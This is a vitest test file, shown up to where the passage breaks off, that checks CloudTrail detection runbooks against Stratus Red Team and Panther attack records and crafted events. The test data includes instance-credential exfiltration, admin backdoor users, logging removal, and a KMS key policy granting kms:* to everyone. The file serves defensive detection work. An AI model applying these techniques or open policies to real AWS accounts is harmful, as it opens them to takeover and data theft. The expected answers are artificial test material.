import { readFileSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import type { JsonValue, RunReport } from "../packages/core/src/index.ts";
import { expectNoRows, HAS_SHARED, SHARED } from "./helpers.ts";
import { runMdHere as runMd } from "./in-process.ts";
import { type Event, field } from "./truth/published-answers.ts";
import { inWindow, RUNBOOK_ANSWERS } from "./truth/runbook-answers.ts";

/*
 * The bundled runbooks on third-party data nobody on this project wrote: CloudTrail recorded
 * while Stratus Red Team detonated real attack techniques (anonymised accounts and addresses).
 * Each runbook that covers a technique must find it. Shapes the data sets lack (a
 * ModifySecurityGroupRules call, a spraying burst) are checked on small records of their own below,
 * and the rows of the steps they touch against test/truth/runbook-answers.ts.
 */
const STRATUS = path.join(SHARED, "datasets/stratus-red-team-detonation-logs/raw");

if (!HAS_SHARED) console.warn(`skipping real-data tests: ${SHARED} is absent`);

describe.skipIf(!HAS_SHARED)("the bundled runbooks on Stratus Red Team detonation logs", () => {
  it("find the techniques they cover", { timeout: 180_000 }, async () => {
    const res = await runMd([
      "runbooks/",
      "--log-dir",
      STRATUS,
      "--from",
      "2020-01-01",
      "--no-report",
      "--json",
    ]);
    expect(res.stderr).toBe("");
    const reports = JSON.parse(res.stdout) as RunReport[];
    const found = (runbook: string, step: string) => {
      const r = reports.find((x) => x.runbook.id === runbook)!;
      const s = r.steps.find((x) => x.id === step)!;
      expect(s.error, `${runbook}/${step}`).toBeUndefined();
      const failed = s.checks.filter((c) => c.status === "failed");
      expect(failed.length, `${runbook}/${step} fails`).toBeGreaterThan(0);
      return JSON.stringify([s.rows, failed.map((c) => c.offendingRows ?? [])]);
    };
    /** The rows the failed checks of a step name. */
    const offending = (runbook: string, step: string) => {
      const s = reports.find((x) => x.runbook.id === runbook)!.steps.find((x) => x.id === step)!;
      return JSON.stringify(s.checks.flatMap((c) => c.offendingRows ?? []));
    };
    // defense-evasion.cloudtrail-event-selectors: a trail narrowed by hand, in both dialects
    expect(offending("cloudtrail-tampering", "trail_changes")).toContain("PutEventSelectors");
    expect(found("cloudtrail-tampering", "trail_changes_by_hand_insights")).toContain(
      "PutEventSelectors",
    );
    // defense-evasion.cloudtrail-stop / cloudtrail-delete
    expect(found("cloudtrail-tampering", "trail_changes")).toContain("StopLogging");
    expect(found("cloudtrail-tampering", "trail_changes")).toContain("DeleteTrail");
    // defense-evasion.vpc-remove-flow-logs / dns-delete-logs
    expect(found("cloudtrail-tampering", "other_logging_removed")).toContain("DeleteFlowLogs");
    expect(found("cloudtrail-tampering", "other_logging_removed")).toContain(
      "DeleteResolverQueryLogConfig",
    );
    // exfiltration.ec2-security-group-open-port-22-ingress (a /0 rule on port 22)
    expect(found("security-group-changes", "world_open_rules")).toContain("sg-003dc7f1f1c686164");
    // initial-access.console-login-without-mfa
    expect(found("console-signin-without-mfa", "signins_without_mfa")).toContain(
      "stratus-red-team-nmfalu",
    );
    // persistence.iam-create-admin-user: a key and AdministratorAccess for a new user
    expect(found("access-key-lifecycle", "keys_for_others")).toContain("malicious-iam-user");
    expect(found("audit-iam", "policy_attachments")).toContain("AdministratorAccess");
    // exfiltration.ec2-share-ami / ec2-share-ebs-snapshot / rds-share-snapshot, in both dialects
    for (const id of ["shared_outside", "shared_outside_insights"]) {
      const rows = found("data-exposure", id);
      for (const call of [
        "ModifyImageAttribute",
        "ModifySnapshotAttribute",
        "ModifyDBSnapshotAttribute",
      ])
        expect(rows, `${id} ${call}`).toContain(call);
    }
    expect(found("data-exposure", "shared_outside")).toContain("846424999548");
    // persistence.lambda-backdoor-function: "*" may invoke it
    expect(found("data-exposure", "public_functions")).toContain(
      "stratus-red-team-backdoor-f-func",
    );
    expect(found("data-exposure", "public_functions_insights")).toContain(
      "stratus-red-team-backdoor-f-func",
    );
    // persistence.rolesanywhere-create-trust-anchor
    expect(found("data-exposure", "trust_anchors")).toContain(
      "malicious-rolesanywhere-trust-anchor",
    );
    expect(found("data-exposure", "trust_anchors_insights")).toContain("CreateTrustAnchor");
    // defense-evasion.organizations-leave: refused, and still listed
    expect(found("data-exposure", "organization_left")).toContain("AccessDenied");
    expect(found("data-exposure", "organization_left_insights")).toContain("AccessDenied");
    // persistence.iam-backdoor-role / iam-create-backdoor-role: a trust policy changed by hand
    expect(found("resource-modifications", "modifications")).toContain("UpdateAssumeRolePolicy");
    expect(found("resource-modifications", "modifications")).toContain(
      "stratus-red-team-malicious-iam-role",
    );
    expect(found("resource-modifications", "trust_policy_changes")).toContain(
      "stratus-red-team-backdoor-r-role",
    );
    // persistence.iam-create-user-login-profile / privilege-escalation.iam-update-user-login-profile
    expect(found("audit-iam", "changes_outside_automation")).toContain("CreateLoginProfile");
    expect(found("audit-iam", "changes_outside_automation")).toContain("UpdateLoginProfile");
    // ... and sign-in-persistence's view of them: each user's password set by the operator's
    // user, in both dialects (not its refused DeleteLoginProfile, which gives no way in)
    for (const [technique, call] of [
      ["persistence.iam-create-user-login-profile", "CreateLoginProfile"],
      ["privilege-escalation.iam-update-user-login-profile", "UpdateLoginProfile"],
    ] as const) {
      const [e] = stratusCalls(technique, call);
      const row = cells(
        String(field(e, "userIdentity.arn")),
        call,
        String(field(e, "requestParameters.userName")),
      );
      expect(found("sign-in-persistence", "sign_in_given_to_others"), technique).toContain(row);
      expect(found("sign-in-persistence", "sign_in_given_to_others_insights"), technique).toContain(
        row,
      );
    }
    expect(found("sign-in-persistence", "sign_in_given_to_others")).not.toContain(
      "DeleteLoginProfile",
    );
    expectSecretReads(found);
    // credential-access.ec2-steal-instance-credentials: the instance's session, used from the
    // machine the operator's own user calls from
    const stolen = stratusCalls(
      "credential-access.ec2-steal-instance-credentials",
      "GetCallerIdentity",
    );
    const [arn, address] = ["userIdentity.arn", "sourceIPAddress"].map((k) =>
      String(field(stolen[0]!, k)),
    );
    expect(found("credential-access", "instance_credentials_elsewhere")).toContain(
      cells(arn!, address!, 2, 0, 1),
    );
    expectInstanceAccess(found);
    // persistence.lambda-overwrite-code / lambda-layer-extension: each function, and the layer
    for (const [technique, call] of [
      ["lambda-overwrite-code", "UpdateFunctionCode20150331v2"],
      ["lambda-layer-extension", "UpdateFunctionConfiguration20150331v2"],
    ] as const) {
      const [e] = stratusCalls(`persistence.${technique}`, call);
      const target = cells(call, String(field(e, "requestParameters.functionName")));
      expect(found("lambda-changes", "function_changes"), technique).toContain(target);
      expect(found("lambda-changes", "function_changes_insights"), technique).toContain(target);
    }
    const [layered] = stratusCalls(
      "persistence.lambda-layer-extension",
      "UpdateFunctionConfiguration20150331v2",
    );
    expect(found("lambda-changes", "function_changes")).toContain(
      String(field(layered, "requestParameters.layers.0")),
    );
    expectModelUse(found);
    // And no runbook breaks on the real records' shapes.
    for (const r of reports) {
      for (const s of r.steps) expect(s.error, `${r.runbook.id}/${s.id}`).toBeUndefined();
    }
    expect(reports.find((r) => r.runbook.id === "root-account-usage")?.status).toBe("passed");
    expectTruth(reports, readJsonl("stratus-red-team-detonation-logs"), STRATUS_STEPS);
  });
});

/*
 * Panther's detection-rule test cases: single records, some deliberately odd, with the rule's
 * verdict for each. Steps whose logic these records exercise are checked against the answer
 * computed from the raw records.
 */
const PANTHER = "panther-analysis-cloudtrail-tests";

describe.skipIf(!HAS_SHARED)("the bundled runbooks on Panther's CloudTrail test cases", () => {
  it("find what the records hold", { timeout: 180_000 }, async () => {
    const res = await runMd([
      "runbooks/",
      "--log-dir",
      path.join(SHARED, "datasets", PANTHER),
      "--from",
      "2000-01-01",
      "--no-report",
      "--json",
    ]);
    const reports = JSON.parse(res.stdout) as RunReport[];
    const rows = (runbook: string, step: string) =>
      JSON.stringify(
        reports.find((r) => r.runbook.id === runbook)!.steps.find((s) => s.id === step)!.rows,
      );
    // Standard.BruteForceByUser / RootLoginFailed: failed sign-ins recorded with ConsoleLogin:
    // Failure and no errorMessage (a wrong user name says "No username found in supplied account")
    const failures = rows("unauthorized-access-attempts", "failed_console_logins");
    expect(failures).toContain('["tester","111.111.111.111",3]');
    expect(failures).toContain('["root","111.111.111.111",1]');
    // AWS.CloudTrail.VPCE.AccessDenied: callers recorded without an ARN (an IAM user's record
    // and another account's, both named AROAEXAMPLE:session-name) are counted, the second one
    // refused by a VPC endpoint policy (VpceAccessDenied)
    expect(rows("unauthorized-access-attempts", "denied_by_principal")).toContain(
      '["AROAEXAMPLE:session-name",2,1,1,',
    );
    // AWS.KMS.CustomerManagedKeyLoss: a DisableKey that failed (NotFoundException) disabled
    // nothing, in either dialect
    const kms = (step: string) =>
      reports.find((r) => r.runbook.id === "kms-key-deletion")!.steps.find((s) => s.id === step)!
        .rowCount;
    expect(kms("key_deletions_insights")).toBe(kms("key_deletions"));
    // AWS.CloudTrail.RootAccessKeyCreated: the root user creating an access key on the console,
    // recorded as invoked by signin.amazonaws.com
    expect(rows("root-account-usage", "root_activity")).toContain('"CreateAccessKey"');
    expect(rows("root-account-usage", "root_activity_insights")).toContain('"CreateAccessKey"');
    // AWS.ConfigService.DisabledDeleted: Config's delivery channel deleted
    expect(rows("cloudtrail-tampering", "other_logging_removed")).toContain(
      "DeleteDeliveryChannel",
    );
    // AWS.CloudTrail.ResourceMadePublic: two key policies replaced by hand (one of them lets "*"
    // decrypt), neither by the pipeline: both listed, in both dialects
    const kmsStep = (id: string) =>
      reports.find((r) => r.runbook.id === "kms-key-deletion")!.steps.find((s) => s.id === id)!;
    for (const id of ["key_policy_changes", "key_policy_changes_insights"]) {
      expect(kmsStep(id).rowCount, id).toBe(2);
      expect(kmsStep(id).status, id).toBe("failed");
    }
    // AWS.Bedrock.DeleteModelInvocationLoggingConfiguration, ModifiedGuardrail: a role outside
    // the workloads deleting the invocation logs and a guardrail
    const bedrock = rows("bedrock-model-use", "model_use");
    for (const call of ["DeleteModelInvocationLoggingConfiguration", "DeleteGuardrail"])
      expect(bedrock, call).toContain(
        cells("arn:aws:sts::123123123123:assumed-role/DevAdmin/dr.evil", call),
      );
    // AWS.CloudTrail.IMDSCredentialExfiltration: the instance session's call from a public
    // address another role's session uses too; not the calls a service made for it, the SSM
    // agent's channel or those from private addresses and service names (the 52.42.146.205 call
    // needs instance_address_pattern: no other identity calls from there)
    expect(rows("credential-access", "instance_credentials_elsewhere")).toBe(
      JSON.stringify([
        [
          "arn:aws:sts::123456789012:assumed-role/MyAppRole/i-0abcdef1234567890",
          "45.33.32.156",
          1,
          0,
          1,
          "2024-01-15T10:30:00Z",
          "2024-01-15T10:30:00Z",
        ],
      ]),
    );
    // AWS.S3.CopyObjectWithClientSideEncryption: an object rewritten with the writer's own key;
    // AWS.S3.DeleteObjects: a batch deletion (CloudTrail records no keys), listed on its own
    expect(rows("s3-ransomware", "customer_key_writes")).toContain(
      cells("arn:aws:iam::123456789012:user/Alice", "CopyObject", "example-bucket", 1, 1, 0),
    );
    expect(rows("s3-ransomware", "bulk_deletions")).toContain(
      cells("arn:aws:iam::123456789012:user/Alice", "2023-10-01T12", 1, 1, 0, 1),
    );
    // AWS.CloudTrail.ShortLifecycle: the 1-day rule and the 730-day one, each with its days;
    // AWS.S3.SecurityControlDisabling and DisableMfaDelete: versioning suspended and MFA delete
    // off, never the refused attempt (testuser's)
    const protection = rows("s3-ransomware", "protection_removed");
    for (const days of [1, 730])
      expect(protection, `${days} days`).toContain(cells(null, null, days, "1.2.3.4"));
    // the disabled 1-day rule is not applied: only the two enabled records of that rule are listed
    expect(protection.split(cells(null, null, 1, "1.2.3.4")).length - 1).toBe(2);
    expect(protection).toContain(cells("critical-data-bucket", "Suspended", "Disabled"));
    expect(protection).not.toContain("user/testuser");
    expectRdsCases(reports);
    // AWS.STS.GetCallerIdentity.TruffleHog: both agents' checks of the key; its "Different STS
    // Event with TruffleHog Agent" case too, deliberately (Panther's rule looks at the check
    // alone): a scanner's agent on any other call is the key being used; never the CLI's check
    const tools = rows("reconnaissance", "tool_activity");
    const compromised = "arn:aws:iam::123456789012:user/compromised-user";
    for (const agent of ["TruffleHog", "trufflehog/3.63.0"])
      expect(tools, agent).toContain(
        cells(compromised, "AKIAIOSFODNN7EXAMPLE", agent, "GetCallerIdentity", 1, 0),
      );
    expect(tools).toContain(cells(null, null, "TruffleHog", "AssumeRole", 1, 0));
    expect(tools).not.toContain("aws-cli/2.15.0");
    // AWS.CloudTrail.SES.*: the four probes, in both dialects; never Trusted Advisor's check
    const sampleRole = "arn:aws:sts::111122223333:assumed-role/SampleRole/bobson.dugnutt";
    for (const id of ["email_sending", "email_sending_insights"]) {
      const ses = rows("reconnaissance", id);
      for (const call of [
        "GetSendQuota",
        "GetAccountSendingEnabled",
        "ListIdentities",
        "GetIdentityVerificationAttributes",
      ])
        expect(ses, `${id} ${call}`).toContain(cells(sampleRole, call, "us-west-2"));
      expect(ses, id).not.toContain("TrustedAdvisor");
    }
    // AWS.CloudTrail.EnableRegion: Alice switching us-west-2 on (recorded in us-east-1);
    // AWS.UnusedRegion: the change in eu-central-1, not the read-only Decrypt AWS made in
    // ap-east-1 nor the Athena query in us-west-2, one of the account's regions. The other
    // changes of other rules' records in regions outside account_regions (us-east-2, ...) are
    // listed too: the default regions are the sample data's
    const regions = rows("reconnaissance", "region_use");
    expect(regions).toContain(
      cells("arn:aws:iam::123456789012:user/Alice", "us-west-2", "EnableRegion", 1, 0),
    );
    expect(regions).toContain(
      cells(
        "arn:aws:sts::123456789012:assumed-role/example-role/example-user",
        "eu-central-1",
        "CreateLogStream",
        1,
        0,
      ),
    );
    for (const absent of ["ap-east-1", "Decrypt", "StartQueryExecution", "ConsoleLogin"])
      expect(regions, absent).not.toContain(absent);
    expectNetworkCases(reports);
    expectSignInCases(reports);
    expectBuildCases(reports);
    expectPrivilegeCases(reports);
    expectGuardrailCases(reports);
    expectOutsideRoleCases(reports);
    // The run's window: records without a time are in no window.
    const events = inWindow(readJsonl(PANTHER), new Date("2000-01-01"), new Date());
    expectTruth(reports, events, PANTHER_STEPS);
  });
});

describe.skipIf(!HAS_SHARED)("credential-access on OTRF's EC2 proxy (SSRF) exfiltration", () => {
  it("finds the instance role's credentials used from the intruder's machine", async () => {
    const events = readJsonl("otrf-ec2-proxy-s3-exfiltration");
    const reports = await runOver(
      "runbooks/credential-access.md",
      events,
      "2020-09-13",
      "2020-09-16",
    );
    const s = reports[0]!.steps.find((x) => x.id === "instance_credentials_elsewhere")!;
    // Counted by hand from the records: the WAF instance's session made 11 calls (ListBuckets,
    // ListObjects, GetObject) from the address the user pedro also called from.
    const session =
      "arn:aws:sts::123456789123:assumed-role/MordorNginxStack-BankingWAFRole-9S3E0UAE1MM0/i-0317f6c6b66ae9c40";
    expect(s.rows.map((r) => r.slice(0, 5))).toEqual([[session, "1.2.3.4", 11, 0, 1]]);
    expect(s.status).toBe("failed");
    expectTruth(reports, events, ["credential-access/instance_credentials_elsewhere"]);
  });
});

describe.skipIf(!HAS_SHARED)("reconnaissance on Panther's discovery records, one call each", () => {
  it("lists every identity's reads once any read is a burst, never AWS's or the console's", async () => {
    // The rules' records are single calls, no burst: max_read_actions_per_hour=0 makes one read
    // enough, to see which calls the step counts as an identity's reads.
    const rules = [
      "AWS.CloudTrail.Account.Discovery",
      "AWS.Software.Discovery",
      "AWS.RDS.SnapshotEnumeration",
      "AWS.IAMUser.ReconAccessDenied",
      "AWS.IAM.Group.Read.Only.Events",
    ];
    const events = pantherRecords(rules);
    expect(events).toHaveLength(19);
    const reports = await runOver(
      "runbooks/reconnaissance.md",
      events,
      "2019-01-01",
      "2026-01-01",
      [...["--param", "max_read_actions_per_hour=0"]],
    );
    const s = reports[0]!.steps.find((x) => x.id === "enumeration_bursts")!;
    // Counted by hand: actor, hour, read actions, services, calls, refused %. Listed: the True
    // cases that are an identity's reads (DescribeAccount, the two billing contacts in one
    // hour, DescribeSecurityGroups, both snapshot enumerations, tester's refused GetRole, whose
    // record says it was invoked by signin.amazonaws.com: a person's console call), and
    // two False cases deliberately: developer's refused DescribeDBSnapshots (a refused read is
    // a read here) and GetRecords in a record without an identity (a read of DynamoDB Streams,
    // which the threshold, not the step, would leave out). Not listed: the Group.Read.Only
    // True cases (CloudFormation reading for a stack: its address is AWS's), the console's
    // reads (aws-internal/3, console.amazonaws.com), sqs.amazonaws.com's call, and the
    // changes (CreateServiceLinkedRole, DetachUserGroup's record is marked read-only but is
    // no read by name).
    expect(s.rows).toEqual([
      [
        "arn:aws:sts::123456789123:assumed-role/DevAdministrator/test_user",
        "2022-11-23 21",
        2,
        "billingconsole",
        2,
        0,
      ],
      ["arn:aws:iam::123456789012:user/developer", "2024-01-18T05", 1, "rds", 1, 100],
      ["arn:aws:iam::123456789012:user/researcher", "2024-01-18T05", 1, "rds", 1, 0],
      ["arn:aws:iam::123456789012:user/tester", "2019-01-01T00", 1, "iam", 1, 100],
      [
        "arn:aws:sts::123456789012:assumed-role/ExampleRole-us-east-2/153151351351351",
        "2021-10-19 01",
        1,
        "ec2",
        1,
        0,
      ],
      [
        "arn:aws:sts::123456789012:assumed-role/SecurityAuditor/user",
        "2024-01-18T05",
        1,
        "rds",
        1,
        0,
      ],
      [
        "arn:aws:sts::123456789123:assumed-role/TestUser/test_123456789123",
        "2022-11-21 18",
        1,
        "organizations",
        1,
        0,
      ],
      [null, "2023-01-09 16", 1, "dynamodb", 1, 0],
    ]);
    expectTruth(reports, events, RECONNAISSANCE_STEPS);
  });
});

describe.skipIf(!HAS_SHARED)("audit-iam on key calls by callers without a user name", () => {
  it("lists them: a root or role session has no key of its own to rotate", async () => {
    // Panther's AWS.CloudTrail.RootAccessKeyCreated cases: the root user creating a key for
    // itself and for another user. The test records leave out readOnly, which CloudTrail records
    // for every IAM call (false for CreateAccessKey): it is put back, nothing else changes.
    const events = readJsonl(PANTHER)
      .filter((e) => e.eventName === "CreateAccessKey" && field(e, "userIdentity.type") === "Root")
      .map((e) => ({ ...e, readOnly: false }));
    expect(events).toHaveLength(2);
    const reports = await runOver("runbooks/audit-iam.md", events, "2019-01-01", "2019-01-02");
    const step = reports[0]!.steps.find((s) => s.id === "changes_outside_automation")!;
    expect(step.rows).toEqual([
      [
        "arn:aws:iam::123456789012:root",
        "CreateAccessKey",
        2,
        "2019-01-01T00:00:00Z",
        "2019-01-01T00:00:00Z",
      ],
    ]);
    expectTruth(reports, events, ["audit-iam/changes_outside_automation"]);
  });
});

describe("security-group-changes on a rule rewritten with ModifySecurityGroupRules", () => {
  it("finds the rule opened to the internet, in every step", async () => {
    // None of the data sets holds a ModifySecurityGroupRules call: this record has the shape
    // CloudTrail gives it (the request wrapped in ModifySecurityGroupRulesRequest, capitalised keys).
    const rule = (cidr: Record<string, string>, id: string) => ({
      eventVersion: "1.09",
      userIdentity: {
        type: "IAMUser",
        principalId: "AIDAEXAMPLEEXAMPLE01",
        arn: "arn:aws:iam::123456789012:user/mallory",
        accountId: "123456789012",
        accessKeyId: "AKIAEXAMPLEEXAMPLE01",
        userName: "mallory",
      },
      eventTime: `2024-05-01T10:0${id}:00Z`,
      eventSource: "ec2.amazonaws.com",
      eventName: "ModifySecurityGroupRules",
      awsRegion: "us-east-1",
      sourceIPAddress: "198.51.100.7",
      userAgent: "aws-cli/2.15.0",
      requestParameters: {
        ModifySecurityGroupRulesRequest: {
          GroupId: `sg-0aaaaaaaaaaaaaa0${id}`,
          SecurityGroupRule: {
            tag: 1,
            SecurityGroupRuleId: `sgr-0bbbbbbbbbbbbbb0${id}`,
            SecurityGroupRule: { IpProtocol: "tcp", FromPort: 22, ToPort: 22, ...cidr },
          },
        },
      },
      responseElements: { ModifySecurityGroupRulesResponse: { return: true } },
      requestID: `00000000-0000-0000-0000-00000000000${id}`,
      eventID: `00000000-0000-0000-0000-10000000000${id}`,
      readOnly: false,
      eventType: "AwsApiCall",
      managementEvent: true,
      recipientAccountId: "123456789012",
      eventCategory: "Management",
    });
    const events = [
      rule({ CidrIpv4: "0.0.0.0/0" }, "1"),
      rule({ CidrIpv6: "::/0" }, "2"),
      rule({ CidrIpv4: "10.0.0.0/8" }, "3"),
    ] as Event[];
    const reports = await runOver(
      "runbooks/security-group-changes.md",
      events,
      "2024-05-01",
      "2024-05-02",
    );
    const open = reports[0]!.steps.find((s) => s.id === "world_open_rules")!;
    expect(open.rows.map((r) => r[3])).toEqual(["sg-0aaaaaaaaaaaaaa01", "sg-0aaaaaaaaaaaaaa02"]);
    expect(open.status).toBe("failed");
    expect(reports[0]!.steps.find((s) => s.id === "sg_changes_insights")!.status).toBe("failed");
    // resource-modifications names the group each rewrite changed
    const modReports = await runOver(
      "runbooks/resource-modifications.md",
      events,
      "2024-05-01",
      "2024-05-02",
    );
    const modified = modReports[0]!.steps.find((s) => s.id === "modifications")!;
    expect(modified.rows.map((r) => r[5])).toEqual([
      "sg-0aaaaaaaaaaaaaa01",
      "sg-0aaaaaaaaaaaaaa02",
      "sg-0aaaaaaaaaaaaaa03",
    ]);
    expectTruth(modReports, events, ["resource-modifications/modifications"]);
    expectTruth(reports, events, [
      "security-group-changes/world_open_rules",
      "security-group-changes/all_changes",
      "security-group-changes/sg_changes_insights",
    ]);
  });
});

describe("console-signin-without-mfa on a sign-in whose record does not say MFAUsed", () => {
  it("counts it as one without MFA in both dialects", async () => {
    // Panther's Standard.NewUserAccountCreated case: a successful IAM-user sign-in with no
    // additionalEventData. Its test record has no eventTime; one is given, nothing else changes.
    const event = {
      userIdentity: { type: "IAMUser", userName: "some_user" },
      eventName: "ConsoleLogin",
      eventSource: "signin.amazonaws.com",
      eventTime: "2021-06-04T09:59:53Z",
      responseElements: { ConsoleLogin: "Success" },
    } as Event;
    const reports = await runOver(
      "runbooks/console-signin-without-mfa.md",
      [event],
      "2021-06-04",
      "2021-06-05",
    );
    for (const id of ["signins_without_mfa", "signins_without_mfa_insights"]) {
      const step = reports[0]!.steps.find((s) => s.id === id)!;
      expect(step.rowCount, id).toBe(1);
      expect(step.status, id).toBe("failed");
    }
    expectTruth(
      reports,
      [event],
      [
        "console-signin-without-mfa/signins_without_mfa",
        "console-signin-without-mfa/signins_without_mfa_insights",
      ],
    );
  });
});

describe("unauthorized-access-attempts on password spraying", () => {
  it("finds one address failing for several users, a guess or two each", async () => {
    // Panther's AWS.CloudTrail.PasswordSpraying case (failed sign-ins for alice and root from one
    // source), widened to four users with two guesses each: a failed sign-in's fields only.
    const events = ["alice", "bob", "carol", "root"].flatMap((user, i) =>
      [0, 1].map(
        (j) =>
          ({
            eventName: "ConsoleLogin",
            eventSource: "signin.amazonaws.com",
            eventType: "AwsConsoleSignIn",
            eventTime: `2024-03-01T10:${i}${j}:00Z`,
            awsRegion: "us-east-1",
            sourceIPAddress: "203.0.113.9",
            errorMessage: "Failed authentication",
            responseElements: { ConsoleLogin: "Failure" },
            userIdentity: { type: user === "root" ? "Root" : "IAMUser", userName: user },
          }) as Event,
      ),
    );
    const reports = await runOver(
      "runbooks/unauthorized-access-attempts.md",
      events,
      "2024-03-01",
      "2024-03-02",
    );
    const step = (id: string) => reports[0]!.steps.find((s) => s.id === id)!;
    // Two failures a user stay under the per-user check; the per-address one sees four users.
    expect(step("failed_console_logins").status).toBe("passed");
    expect(step("failed_console_logins_by_source").status).toBe("failed");
    expect(step("failed_console_logins_by_source").rows).toEqual([["203.0.113.9", 8, 4]]);
    expectTruth(reports, events, [
      "unauthorized-access-attempts/failed_console_logins",
      "unauthorized-access-attempts/failed_console_logins_by_source",
    ]);
  });
});

describe.skipIf(!HAS_SHARED)("api-usage-by-identity on another account's caller probing", () => {
  it("names the caller that has no ARN and finds its failures", async () => {
    // Panther's AWS.CloudTrail.VPCE.AccessDenied record (another account's session, no ARN, a
    // refused GetObject), repeated 20 times a minute apart: enough calls for the step to judge.
    const [template] = readJsonl(PANTHER).filter(
      (e) => field(e, "userIdentity.type") === "AWSAccount" && e.errorCode === "VpceAccessDenied",
    );
    const events = Array.from({ length: 20 }, (_, i) => ({
      ...template,
      eventTime: `2023-03-01T00:${String(i).padStart(2, "0")}:00Z`,
      eventID: `00000000-0000-0000-0000-0000000000${String(i).padStart(2, "0")}`,
    })) as Event[];
    const reports = await runOver(
      "runbooks/api-usage-by-identity.md",
      events,
      "2023-03-01",
      "2023-03-02",
    );
    const step = reports[0]!.steps.find((s) => s.id === "failing_identities")!;
    // Computed from the records: one caller, 20 calls, all of them failed.
    const errors = events.filter((e) => e.errorCode).length;
    expect(step.rows).toEqual([
      [field(template, "userIdentity.principalId"), 20, errors, errors / 20],
    ]);
    expect(step.status).toBe("failed");
  });
});

/** The IAM user of the crafted calls the data sets lack. */
const MALLORY = {
  type: "IAMUser",
  principalId: "AIDAEXAMPLEEXAMPLE01",
  arn: "arn:aws:iam::123456789012:user/mallory",
  accountId: "123456789012",
  accessKeyId: "AKIAEXAMPLEEXAMPLE01",
  userName: "mallory",
};

/**
 * A call as CloudTrail records it (the documented request shapes) by `userIdentity`, at minute
 * `i` of 2024-06-01T10; `extra` sets or overrides any key (`errorCode` makes it a refused one).
 */
function crafted(
  i: number,
  userIdentity: Record<string, unknown>,
  eventSource: string,
  eventName: string,
  requestParameters: Record<string, unknown> | null,
  extra: Record<string, unknown>,
): Event {
  const n = String(i).padStart(2, "0");
  return {
    eventVersion: "1.09",
    userIdentity,
    eventTime: `2024-06-01T10:${n}:00Z`,
    eventSource,
    eventName,
    awsRegion: "us-east-1",
    sourceIPAddress: "198.51.100.7",
    userAgent: "aws-cli/2.15.0",
    requestParameters,
    responseElements: null,
    requestID: `00000000-0000-0000-0000-0000000000${n}`,
    eventID: `00000000-0000-0000-0000-1000000000${n}`,
    eventType: "AwsApiCall",
    managementEvent: true,
    recipientAccountId: "123456789012",
    eventCategory: "Management",
    ...extra,
  } as Event;
}

describe("the bundled runbooks on weakened defences the data sets lack", () => {
  /**
   * A call as CloudTrail records it (the documented request shapes): an IAM user's, or with
   * `arn` another caller's; `errorCode` makes it a refused one.
   */
  const call = (
    i: number,
    eventSource: string,
    eventName: string,
    requestParameters: Record<string, unknown> | null,
    extra: Record<string, unknown> = {},
  ) =>
    crafted(i, MALLORY, eventSource, eventName, requestParameters, { readOnly: false, ...extra });
  const denied = { errorCode: "AccessDenied", errorMessage: "User is not authorized" };
  const byPipeline = {
    userIdentity: {
      type: "AssumedRole",
      arn: "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42",
      accountId: "123456789012",
    },
  };
  /** S3 Control's request: the four settings (a missing one left out) and the account's host. */
  const block = (settings: Record<string, boolean>) => ({
    PublicAccessBlockConfiguration: {
      xmlns: "http://awss3control.amazonaws.com/doc/2018-08-20/",
      ...settings,
    },
    Host: "123456789012.s3-control.us-east-1.amazonaws.com",
  });
  const allOn = {
    BlockPublicAcls: true,
    IgnorePublicAcls: true,
    BlockPublicPolicy: true,
    RestrictPublicBuckets: true,
  };
  const S3 = "s3.amazonaws.com";
  const GD = "guardduty.amazonaws.com";
  const KMS = "kms.amazonaws.com";
  const detector = { detectorId: "12abc34d567e8fa901bc2d34e56789f0" };
  const members = { ...detector, accountIds: ["210987654321"] };
  const events = [
    call(1, S3, "PutAccountPublicAccessBlock", block(allOn)),
    call(2, S3, "PutAccountPublicAccessBlock", block({ ...allOn, RestrictPublicBuckets: false })),
    call(3, S3, "PutAccountPublicAccessBlock", block({ BlockPublicAcls: true })),
    call(
      4,
      S3,
      "PutAccountPublicAccessBlock",
      block({ ...allOn, BlockPublicPolicy: false }),
      denied,
    ),
    call(5, S3, "DeleteAccountPublicAccessBlock", {
      Host: "123456789012.s3-control.us-east-1.amazonaws.com",
    }),
    call(6, GD, "UpdateDetector", { ...detector, enable: false }),
    call(7, GD, "UpdateDetector", {
      ...detector,
      enable: true,
      findingPublishingFrequency: "SIX_HOURS",
    }),
    call(8, GD, "DisassociateFromMasterAccount", detector),
    call(9, GD, "DisassociateFromAdministratorAccount", detector),
    call(10, GD, "DeleteMembers", members),
    call(11, GD, "DisassociateMembers", members),
    call(12, GD, "StopMonitoringMembers", members),
    call(13, GD, "DeleteMembers", members, denied),
    call(14, GD, "DisableOrganizationAdminAccount", { adminAccountId: "210987654321" }),
    call(15, "access-analyzer.amazonaws.com", "DeleteAnalyzer", { analyzerName: "org-analyzer" }),
    call(16, "macie2.amazonaws.com", "DisableMacie", null),
    call(17, KMS, "DeleteImportedKeyMaterial", { keyId: "1234abcd-12ab-34cd-56ef-1234567890ab" }),
    call(
      18,
      KMS,
      "DeleteImportedKeyMaterial",
      { keyId: "1234abcd-12ab-34cd-56ef-1234567890ac" },
      denied,
    ),
    call(19, KMS, "PutKeyPolicy", {
      keyId: "1234abcd-12ab-34cd-56ef-1234567890ab",
      policyName: "default",
      policy:
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"*","Action":"kms:*","Resource":"*"}]}',
      bypassPolicyLockoutSafetyCheck: false,
    }),
    call(
      20,
      KMS,
      "PutKeyPolicy",
      { keyId: "1234abcd-12ab-34cd-56ef-1234567890ad", policyName: "default" },
      byPipeline,
    ),
    call(
      21,
      KMS,
      "PutKeyPolicy",
      { keyId: "1234abcd-12ab-34cd-56ef-1234567890ae", policyName: "default" },
      denied,
    ),
  ];
  /** The event times (minutes past 10:00) of a step's rows, in the runbook's order. */
  const minutes = (reports: RunReport[], id: string) =>
    reports[0]!.steps.find((s) => s.id === id)!.rows.map((r) => String(r[0]).slice(14, 16));

  it("finds the account's S3 Block Public Access turned off, never a refused call", async () => {
    const reports = await onJune1("runbooks/resource-modifications.md", events);
    // 2: a setting false, 3: three settings left out, 5: deleted; not 1 (all on) nor 4 (refused)
    expect(minutes(reports, "account_public_access_opened")).toEqual(["02", "03", "05"]);
    const step = (id: string) => reports[0]!.steps.find((s) => s.id === id)!;
    expect(step("account_public_access_opened").status).toBe("failed");
